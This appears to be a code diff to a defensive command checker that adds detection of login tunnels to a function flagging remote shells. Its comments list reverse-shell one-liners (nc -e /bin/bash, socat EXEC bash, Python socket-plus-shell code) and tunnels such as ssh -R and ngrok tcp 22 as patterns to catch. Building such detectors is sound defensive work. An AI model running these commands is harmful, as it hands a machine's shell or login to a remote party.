@@ -2,6 +2,7 @@ import { programName } from './argv.ts';
 import { type Invocation, SHELLS, shellReadsStdin, unwrap } from './command.ts';
 import { inlineCode, languageOf, readsProgramFromStdin } from './families/interpreter-argv.ts';
 import type { Finding } from './git-rules.ts';
+import { tunnelledLogin } from './login-tunnels.ts';
 import { networkPath, networkSink, opensConnection } from './network-sinks.ts';
 import { parseShell } from './shell.ts';
 import type { SimpleCommand } from './syntax.ts';
@@ -21,7 +22,9 @@ import type { SimpleCommand } from './syntax.ts';
  * - a program a connection runs with its stdin and stdout (network-sinks.ts Sink.runs: `nc -e
  *   /bin/bash h p`, `ncat --sh-exec sh`, `socat TCP:h:p EXEC:'bash -li',pty`) that is such a shell;
  * - inline code (`python3 -c`, `perl -e`, `php -r`, `ruby -e`, `node -e`) that opens a socket and
- *   names a shell to start (`subprocess.call(["/bin/sh","-i"])`, `exec("/bin/sh -i <&3 >&3")`).
+ *   names a shell to start (`subprocess.call(["/bin/sh","-i"])`, `exec("/bin/sh -i <&3 >&3")`);
+ * - a tunnel that hands this machine's login to another host (login-tunnels.ts: `ssh -R
+ *   2222:localhost:22 h`, `ngrok tcp 22`).
  *
  * A connection with no shell behind it passes: `nc -zv localhost 5432`, `nc -l 8080`, `socat -
  * TCP:localhost:6379`, `echo > /dev/tcp/localhost/5432`, `echo PING | nc localhost 6379`.
@@ -44,6 +47,8 @@ export function checkRemoteShells(commands: readonly SimpleCommand[], invocation
     const run = opensConnection(inv) ? networkSink(inv)?.runs.find(isInteractiveShell) : undefined;
     if (run !== undefined) return finding(`\`${inv.program}\` hands \`${run}\` to whoever is at the other end of its connection`);
     if (codeBindsShell(inv)) return finding(`\`${inv.program}\`'s code opens a socket and starts a shell on it`);
+    const tunnel = tunnelledLogin(inv);
+    if (tunnel) return finding(tunnel);
   }
   return null;
 }
